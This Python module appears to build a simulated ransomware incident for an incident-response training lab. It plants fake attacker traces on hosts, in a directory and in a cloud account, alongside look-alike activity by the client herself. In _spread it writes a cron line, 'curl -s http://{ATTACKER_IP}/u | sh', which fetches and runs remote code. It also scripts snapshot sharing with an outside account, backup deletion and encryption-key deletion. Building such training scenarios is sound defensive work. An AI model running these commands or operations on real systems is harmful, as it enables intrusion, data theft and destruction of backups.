"""Ransomware at a whole client: hosts, directory and cloud account in one story, composed of the others.

About 20 hours before the lab begins the attacker enters ``web1`` as in the story of the compromised host, takes the accounts payable manager's
account and adds an account of their own, and has the deployment's access key as in the story of the leaked key. They delete the newest
recovery points of ``web1``, encrypt and delete files there, shut everybody out of ``db1``, get to ``mon1`` with the same key, delete one
snapshot and give another away, encrypt and delete objects, and have an encryption key deleted. Beside each of these lies something of the
client's own that looks alike: files that were changed after the backup and before the attack, an account that the manager added herself, an
object that the deployment wrote, one of which nobody knows who wrote it.
"""

from __future__ import annotations

from collections.abc import Sequence
from datetime import datetime, timedelta
from typing import Any, Final

from integrations.lab.clock import iso
from integrations.lab.cloud.account import HOME, CloudAccount
from integrations.lab.hosts.state import LabHost, LabPoint
from integrations.lab.scenarios import leaked_key
from integrations.lab.scenarios.bec import attackers_sign_ins
from integrations.lab.scenarios.compromised_host import ATTACKER_IP, DEPLOY_IP, Intrusion, own_things
from integrations.lab.scenarios.machines import KEYS, make_cron, make_key, ordinary_hosts
from integrations.lab.scenarios.stage import FINANCE, Stage
from integrations.lab.state import OFFICE_IP, Story

NAMES: Final = ("web1", "db1", "mon1", "bastion")
"""Entered, out of reach, entered and not reported yet, untouched."""
ADDED, TRAINEE = 13, 14
"""Indexes of the account that the attacker added, and of one that the manager did."""
_BEGAN: Final = timedelta(hours=20)
_ORIGINALS: Final[dict[str, bytes]] = {
    "/srv/data/contracts/a.txt": b"Contract A, signed.\n",
    "/srv/data/contracts/b.txt": b"Contract B, signed.\n",
    "/srv/data/ledger.csv": b"2026-10-31;1200.00;paid\n",
    "/srv/data/notes.txt": b"Ask the bank.\n",
    "/srv/data/plans.txt": b"Third quarter.\n",
}


def build(stage: Stage) -> None:
    """Fill directory, mailboxes and hosts."""
    tenant = stage.tenant
    began = tenant.start - _BEGAN
    first, second, third, last = _names(tenant.named_hosts or ((tenant.host,) if tenant.host else ()))
    ordinary_hosts(tenant, first, second, third, last)
    tenant.hosts[last].gateway = True
    web = tenant.hosts[first]
    Intrusion(tenant, web, first, began).leave()
    _files(stage, web, first, began)
    _spread(stage, tenant.hosts[third], began + timedelta(hours=2))
    tenant.hosts[second].reachable = False
    _account(stage, began + timedelta(hours=1))
    story = tenant.story
    story.began_at = began
    story.compromised = [stage.upn(FINANCE), first, second]
    story.attacker = {"ips": [ATTACKER_IP], "country": "NL", "addresses": [], "user_agent": ""}
    story.artefacts["hosts"] = {"entered": [first, third], "unreachable": second, "untouched": last}
    stage.innocent(*own_things(first, web), *(f"{third}/{kind}" for kind in ("accounts", "units", "packages")), last)


def _names(named: Sequence[str]) -> tuple[str, str, str, str]:
    """The hosts that a run is about first, and then made-up ones."""
    found = list(dict.fromkeys([*named[:2], *NAMES]))
    return found[0], found[1], found[2], found[3]


def _files(stage: Stage, host: LabHost, name: str, began: datetime) -> None:
    """A folder of the client's, its backups, and what was done to both."""
    old, dice = began - timedelta(days=60), stage.tenant.dice
    for path, content in _ORIGINALS.items():
        host.put(path, content, old)

    def point(at: datetime, files: dict[str, bytes]) -> str:
        id = f"{name}:{dice.bytes(32, 'recovery point', len(host.points)).hex()}"
        host.points[id] = LabPoint(at, files)
        return id

    every_night = [began - timedelta(days=day) for day in (6, 5, 4, 3)]  # the last two nights' were deleted
    good = [point(at, dict(_ORIGINALS)) for at in every_night][-1]
    # Work of the client's, after the last recovery point that is left and before the attack.
    host.put("/srv/data/notes.txt", b"Ask the bank again.\n", began - timedelta(days=1))
    host.put("/srv/data/plans.txt", b"Fourth quarter.\n", began - timedelta(minutes=5))
    sealed = began + timedelta(hours=2)
    host.put("/srv/data/ledger.csv", dice.bytes(24, "encrypted ledger"), sealed)
    del host.files["/srv/data/contracts/a.txt"]
    host.put("/srv/data/contracts/a.txt.locked", dice.bytes(24, "encrypted contract"), sealed)
    host.put("/srv/data/README_RECOVER.txt", b"Your files are encrypted.\n", sealed)
    tainted = {path: found.content for path, found in host.files.items() if path.startswith("/srv/data/")}
    stage.tenant.story.artefacts["files"] = {
        "host": name,
        "good": good,
        "tainted": point(began + timedelta(hours=4), tainted),
        "damaged": ["/srv/data/contracts/a.txt", "/srv/data/ledger.csv"],
        "own": ["/srv/data/notes.txt", "/srv/data/plans.txt"],
    }


def _spread(stage: Stage, host: LabHost, at: datetime) -> None:
    """The same key and the same fetching line on another host."""
    key = make_key(stage.tenant, KEYS.format("/root"), "root", "root@attacker", at, "attacker")
    host.keys[key.id] = key
    line = make_cron("/etc/cron.d/0sync", "root", "*/5 * * * *", f"curl -s http://{ATTACKER_IP}/u | sh", at)
    host.cron[line.id] = line


def _account(stage: Stage, at: datetime) -> None:
    """The manager's account is used from abroad, and adds another; she adds one herself."""
    tenant = stage.tenant
    attackers_sign_ins(stage, FINANCE, at, ATTACKER_IP)
    for index, local, when, ip in (
        (ADDED, "svc-sync", at + timedelta(minutes=20), ATTACKER_IP),
        (TRAINEE, "t.trainee", at + timedelta(minutes=50), OFFICE_IP),
    ):
        upn = f"{local}@{tenant.domain}"
        tenant.directory.alter(
            index, userPrincipalName=upn, mail=upn, mailNickname=local, displayName=local, createdDateTime=iso(when)
        )
        tenant.add_directory_audit("Add user", when, FINANCE, ip, [stage.target(index)], operation="Add")
    tenant.story.artefacts["added"] = {"upn": stage.upn(ADDED), "id": stage.id(ADDED)}
    stage.innocent(f"users/{stage.upn(TRAINEE)}")


def furnish(account: CloudAccount, story: Story) -> None:
    """The cloud account: the story of the leaked key, and what was destroyed with it."""
    began, compromised, attacker = story.began_at, story.compromised, story.attacker
    leaked_key.furnish(account, story)
    at = story.began_at or account.start
    story.began_at = began
    story.compromised = [*compromised, *story.compromised]
    story.attacker = {**attacker, **story.attacker, "ips": sorted({*attacker.get("ips", ()), *story.attacker["ips"]})}
    for ref in account.lab.named.get("principals", ()):
        kind, _, name = ref.partition("/")
        if kind in ("user", "role") and name and account.table("principals").get(ref) is None:
            account.principal(kind, name)
    script = leaked_key.Script(account, first=1_000)
    key = str(story.accounts["key"])

    def act(minutes: int, operation: str, service: str, **facts: Any) -> None:
        moment = at + timedelta(minutes=minutes)
        script.by("ci-deploy", key, leaked_key.ATTACKER_IP, moment, operation, service=service, region=HOME, **facts)

    _snapshots(account, story, act, at)
    _objects(account, story, act, at)
    script.by(
        *("ci-deploy", key, DEPLOY_IP, at + timedelta(hours=1), "PutObject"),
        service="s3",
        region=HOME,
        request={"bucketName": story.artefacts["bucket"]["name"], "key": "report.xlsx"},
        response={"x-amz-version-id": "v-report-2"},
    )
    (data_key,) = account.table("kms")
    data_key.props.update(state="pending_deletion", deletion=account.start + timedelta(days=7))
    act(200, "ScheduleKeyDeletion", "kms", request={"keyId": data_key.id, "pendingWindowInDays": 7})
    story.artefacts["encryption_key"] = {"id": data_key.id}
    account.events.sort(key=lambda row: (row["at"], row["id"]))


def _snapshots(account: CloudAccount, story: Story, act: Any, began: datetime) -> None:
    """One is deleted, one is given away; recovery points likewise."""
    made = {}
    for name in ("web-1", "db-1"):
        (volume,) = next(r.props["volumes"] for r in account.table("instances") if r.props["name"] == name)
        for day in (9, 2):
            made[name, day] = id = account.made_up("snap-", name, day)
            row = {"region": HOME, "volume": volume, "token": "", "description": "nightly", "locked": None}
            account.add("snapshots", id, {**row, "at": began - timedelta(days=day), "shares": []})
    shared, gone = made["db-1", 2], account.made_up("snap-", "db-1", "deleted")
    account.truth("snapshots", shared).props["shares"] = [leaked_key.ATTACKER_ACCOUNT]
    permission = {"add": {"items": [{"userId": leaked_key.ATTACKER_ACCOUNT}]}}
    act(170, "ModifySnapshotAttribute", "ec2", request={"snapshotId": shared, "createVolumePermission": permission})
    act(172, "DeleteSnapshot", "ec2", request={"snapshotId": gone})
    act(174, "DeleteSnapshot", "ec2", request={"snapshotId": made["web-1", 2]}, error="Client.UnauthorizedOperation")
    sources = account.lab.named.get("sources", ())
    source = sources[0] if sources else f"arn:aws:ec2:{HOME}:{account.id}:volume/db-1-data"
    for name, at in (("before", began - timedelta(days=1)), ("after", began + timedelta(hours=5))):
        account.add("points", f"rp-{name}", {"source": source, "at": at})
    act(176, "DeleteRecoveryPoint", "backup", request={"recoveryPointArn": "rp-deleted"})
    story.artefacts["snapshots"] = {
        "keep": [made["db-1", 2], made["web-1", 2]],
        "shared": shared,
        "account": leaked_key.ATTACKER_ACCOUNT,
        "deleted": gone,
    }
    story.artefacts["source"] = {"id": source, "good": "rp-before", "tainted": "rp-after"}


def _objects(account: CloudAccount, story: Story, act: Any, began: datetime) -> None:
    """Objects that were encrypted and deleted, and others that were changed in the same hours."""
    named = account.lab.named.get("buckets", ())
    bucket = named[0] if named else f"files-{account.id}"
    for name in named:
        row = {"created": account.start - timedelta(days=500), "versioned": True, "lock": False, "policy": None}
        account.add("buckets", name, row)
    old, then = began - timedelta(days=20), began + timedelta(hours=3)

    def put(key: str, version: str, data: bytes, at: datetime, *, sealed: bool = False, marker: bool = False) -> None:
        row = {"key": key, "version": version, "data": data, "at": at, "marker": marker, "kept": None, "sealed": sealed}
        account.objects.setdefault(bucket, []).append(row)

    for key in ("ledger.csv", "contracts.pdf", "report.xlsx", "minutes.txt", "old.txt"):
        put(key, f"v-{key.partition('.')[0]}-1", f"{key}, as it was".encode(), old)
    put("ledger.csv", "v-ledger-2", b"\x8a\x11sealed", then, sealed=True)
    put("scratch.bin", "v-scratch-1", b"\x8a\x12sealed", then, sealed=True)
    put("contracts.pdf", "v-contracts-2", b"", then, marker=True)
    put("report.xlsx", "v-report-2", b"report.xlsx, this week's", began + timedelta(hours=1))
    put("minutes.txt", "v-minutes-2", b"minutes.txt, of nobody knows whom", began + timedelta(hours=2))
    header = {"x-amz-server-side-encryption-customer-algorithm": "AES256"}
    for minutes, key, version in ((180, "ledger.csv", "v-ledger-2"), (181, "scratch.bin", "v-scratch-1")):
        request = {"bucketName": bucket, "key": key, **header}
        act(minutes, "PutObject", "s3", request=request, response={"x-amz-version-id": version})
    request = {"bucketName": bucket, "key": "contracts.pdf"}
    act(183, "DeleteObject", "s3", request=request, response={"x-amz-version-id": "v-contracts-2"})
    story.artefacts["bucket"] = {"name": bucket, "damaged": ["contracts.pdf", "ledger.csv"], "lost": ["scratch.bin"]}
    story.innocent += [f"buckets/{bucket}/{key}" for key in ("report.xlsx", "minutes.txt", "old.txt", "scratch.bin")]
    story.innocent += [f"buckets/backups-{account.id}"]
